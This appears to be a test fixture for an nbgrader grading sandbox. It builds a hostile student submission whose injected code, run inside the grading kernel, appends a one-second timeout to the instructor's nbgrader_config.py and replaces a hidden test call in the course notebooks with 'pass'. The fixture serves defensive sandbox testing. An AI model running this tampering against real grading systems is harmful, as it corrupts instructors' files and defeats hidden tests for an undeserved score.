"""Rewrites the instructor's course files from inside a kernel: nbgrader_config.py, the release and the source."""
from tests.hostile._common import FIND_COURSE, Submission, blank_answers, insert_after, release

KIND, HONEST, FLAG, WHAT = "cross", 0.0, True, "rewrites nbgrader_config.py, notebooks/ and solutions/"
EVIDENCE = r"write|open\(|nbgrader_config|denied|read-only|PermissionError"
MARK = "HOSTILE-CORPUS-MARK"


def build(ctx):
    hook = FIND_COURSE + f'''
import glob, os
_root = _course_root()
for _path in ([os.path.join(_root, "nbgrader_config.py")] if _root else []) + \\
        glob.glob(os.path.join(_root or "/nonexistent", "*", "00_why_messaging", "*.ipynb")):
    try:
        if _path.endswith(".py"):
            open(_path, "a").write("\\n# {MARK}\\nc.Execute.timeout = 1\\n")
        else:
            _text = open(_path).read()
            open(_path, "w").write(_text.replace("ex00.hidden_call_chain(call_chain)", "pass  # {MARK}"))
    except OSError as exc:
        print("refused", exc)
'''
    return Submission(insert_after(blank_answers(release()), "00-call_chain", hook))
